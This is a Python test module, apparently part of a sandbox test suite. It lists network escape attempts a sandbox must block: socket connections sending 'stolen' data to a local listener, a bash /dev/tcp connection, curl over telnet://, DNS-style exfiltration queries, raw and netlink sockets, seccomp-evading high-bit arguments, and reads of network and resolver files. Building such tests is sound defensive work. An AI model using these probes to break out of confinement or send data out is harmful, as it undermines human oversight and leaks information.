"""Every way to another machine, or to a service of this one, that is made of sockets."""

from __future__ import annotations

import socket
import threading
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from tests.escape.attack import KERNEL, ONLINE, ROOT, Attack
from tests.escape.scene import Scene

TOPIC = "network"

# The payload says nothing: the server outside tells whether it was reached.
CONNECT = """
import socket
with socket.socket({family}, {kind}, {protocol}) as s:
    s.settimeout(3)
    s.connect(({host!r}, W.{port}))
    s.sendall(b"stolen")
"""


def _connects(family: str, kind: str, port: str, *, protocol: int = 0) -> str:
    host = "::1" if family.endswith("6") else "127.0.0.1"
    return CONNECT.format(
        family=f"socket.{family}",
        kind=f"socket.{kind}",
        protocol=protocol,
        host=host,
        port=port,
    )


def _opens(family: int, kind: int, protocol: int = 0) -> str:
    return f"""
import socket
s = socket.socket({family}, {kind}, {protocol})
escaped("socket", s)
"""


def _online(name: str, opened: tuple[int, ...], needs: str, otherwise: str) -> Attack:
    """A socket that is more than IP, for a tool that has the network."""
    script = _opens(*opened)
    return Attack(
        f"online, {name}",
        TOPIC,
        script,
        permissions=ONLINE,
        needs=needs,
        otherwise=(otherwise,),
    )


def _visitor(scene: Scene) -> Mapping[str, Any]:
    """Somebody outside who talks to whoever listens on a port."""
    with socket.socket() as chosen:
        chosen.bind(("127.0.0.1", 0))
        port = chosen.getsockname()[1]
    word = scene.secret()
    over = threading.Event()

    def visit() -> None:
        while not over.wait(0.05):
            try:
                with socket.create_connection(("127.0.0.1", port), 1) as connection:
                    connection.sendall(word.encode())
                    return
            except OSError:
                continue

    visitor = threading.Thread(target=visit)
    visitor.start()
    scene.stack.callback(visitor.join)
    scene.stack.callback(over.set)
    return {"free_port": port}


QUERY = r"""
import socket
question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + b"\6stolen\7example\3org\0" + b"\0\x10\0\1"
"""

# RTM_GETLINK and RTM_GETADDR: the interfaces of this machine and their addresses.
INTERFACES = r"""
import socket, struct
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
s.bind((0, 0))
s.settimeout(3)
s.send(struct.pack("=IHHII", 17, 18, 0x301, 1, 0) + b"\0")
escaped("interfaces", len(s.recv(65536)), "bytes")
"""

# SOCK_DIAG_BY_FAMILY: who listens on this machine.
LISTENERS = r"""
import socket, struct
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4)
s.settimeout(3)
body = struct.pack("=BBBBI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 1 << 10) + bytes(48)
s.send(struct.pack("=IHHII", 16 + len(body), 20, 0x301, 1, 0) + body)
answer = s.recv(1 << 20)
if W.tcp_port.to_bytes(2, "big") in answer:
    escaped("listening ports")
"""

ANY_FAMILY = """
import socket
for family in range(2, 46):
    for kind in (1, 2, 3, 5):
        try:
            s = socket.socket(family, kind, 0)
        except OSError:
            continue
        escaped("family", family)
        s.close()
"""

FAST_OPEN = """
import socket
s = socket.socket()
s.sendto(b"stolen", socket.MSG_FASTOPEN, ("127.0.0.1", W.tcp_port))
"""

# The kernel takes the low half of each word, so a filter must not look at the high one.
HIGH_BITS = """
fd = call("socket", (1 << 32) | 2, (1 << 32) | 1, 0)
import socket
s = socket.socket(fileno=fd)
s.connect(("127.0.0.1", W.tcp_port))
s.sendall(b"stolen")
"""

ATTACKS = (
    Attack("a TCP connection", TOPIC, _connects("AF_INET", "SOCK_STREAM", "tcp_port")),
    Attack("a TCP connection over IPv6", TOPIC, _connects("AF_INET6", "SOCK_STREAM", "tcp6_port")),
    Attack("a UDP packet", TOPIC, _connects("AF_INET", "SOCK_DGRAM", "udp_port")),
    Attack("a UDP packet over IPv6", TOPIC, _connects("AF_INET6", "SOCK_DGRAM", "udp6_port")),
    Attack(
        "a multipath TCP connection",
        TOPIC,
        _connects("AF_INET", "SOCK_STREAM", "tcp_port", protocol=262),
        needs=KERNEL,
        otherwise=("EPROTONOSUPPORT", "ENOPROTOOPT"),
    ),
    Attack("TCP fast open, which connects without connect", TOPIC, FAST_OPEN),
    Attack("a socket asked for with bits set where the kernel does not look", TOPIC, HIGH_BITS),
    Attack(
        "a connection by the shell itself",
        TOPIC,
        "exec 3<>/dev/tcp/127.0.0.1/$tcp_port && echo stolen >&3",
        bash=True,
    ),
    Attack(
        "a connection by curl, proxy settings and all",
        TOPIC,
        'curl -s -m 0.5 --noproxy "*" "telnet://127.0.0.1:$tcp_port" </dev/null',
        bash=True,
    ),
    Attack(
        "listening, and being talked to from outside",
        TOPIC,
        """
import socket
s = socket.create_server(("127.0.0.1", W.free_port))
s.settimeout(5)
print(s.accept()[0].recv(100).decode())
""",
        arrange=_visitor,
    ),
    Attack("UDP-Lite", TOPIC, _opens(2, 2, 136), needs=KERNEL, otherwise=("EPROTONOSUPPORT",)),
    Attack("SCTP", TOPIC, _opens(2, 1, 132), needs=KERNEL, otherwise=("EPROTONOSUPPORT",)),
    Attack("raw IP packets", TOPIC, _opens(2, 3, 1), needs=ROOT, otherwise=("EPERM",)),
    Attack("ping sockets", TOPIC, _opens(2, 2, 1), needs=KERNEL, otherwise=("EACCES",)),
    Attack("packets below IP", TOPIC, _opens(17, 3, 0x0300), needs=ROOT, otherwise=("EPERM",)),
    Attack("a list of the network interfaces by netlink", TOPIC, INTERFACES),
    Attack(
        "a list of who listens by netlink",
        TOPIC,
        LISTENERS,
        needs=KERNEL,
        otherwise=("EPROTONOSUPPORT", "ENOENT"),
    ),
    Attack("device events by netlink", TOPIC, _opens(16, 3, 15)),
    Attack(
        "a socket to the hypervisor",
        TOPIC,
        _opens(40, 1),
        needs=KERNEL,
        otherwise=("EAFNOSUPPORT",),
    ),
    Attack(
        "the kernel's cryptography by socket",
        TOPIC,
        _opens(38, 5),
        needs=KERNEL,
        otherwise=("EAFNOSUPPORT",),
    ),
    Attack("a socket of any family at all", TOPIC, ANY_FAMILY),
    Attack(
        "a table of all connections of the machine",
        TOPIC,
        """
for path in ("/proc/net/tcp", "/proc/self/net/tcp", "/proc/thread-self/net/tcp"):
    if f":{W.tcp_port:04X} " in (attempt(read, path) or ""):
        escaped(path)
""",
    ),
    _online("raw IP packets", (2, 3, 1), ROOT, "EPERM"),
    _online("packets below IP", (17, 3, 0x0300), ROOT, "EPERM"),
    _online("a socket to the hypervisor", (40, 1), KERNEL, "EAFNOSUPPORT"),
    _online("the kernel's cryptography by socket", (38, 5), KERNEL, "EAFNOSUPPORT"),
    _online("the audit system by netlink", (16, 3, 9), KERNEL, "EPROTONOSUPPORT"),
    Attack(
        "online, taking an address from an interface",
        TOPIC,
        r"""
import socket, struct
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
s.settimeout(3)
# RTM_NEWADDR 127.9.9.9/32 on lo, removed again.
body = struct.pack("=BBBBI", 2, 32, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([127, 9, 9, 9]))
for kind, flags in ((20, 0x405), (21, 0x5)):
    s.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
    code = -struct.unpack_from("=i", s.recv(4096), 16)[0]
    if code:
        raise OSError(code, os.strerror(code))
escaped("the interface was changed")
""",
        permissions=ONLINE,
        needs=ROOT,
        otherwise=("EPERM",),
    ),
    Attack(
        "a name asked for by UDP",
        "DNS",
        QUERY
        + """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(question, ("127.0.0.1", W.udp_port))
""",
    ),
    Attack(
        "a name asked for by TCP",
        "DNS",
        QUERY
        + """
s = socket.create_connection(("127.0.0.1", W.tcp_port), 3)
s.sendall(len(question).to_bytes(2, "big") + question)
""",
    ),
    Attack(
        "the name servers of the machine",
        "DNS",
        """
read("/etc/resolv.conf")
escaped("the settings of the resolver can be read")
""",
        needs=KERNEL,
        otherwise=("ENOENT",),
    ),
    Attack(
        "the machine's own names",
        "DNS",
        """
if read("/etc/hosts") == W.hosts:
    escaped("they can be read")
""",
        arrange=lambda scene: {"hosts": Path("/etc/hosts").read_text()},
    ),
)
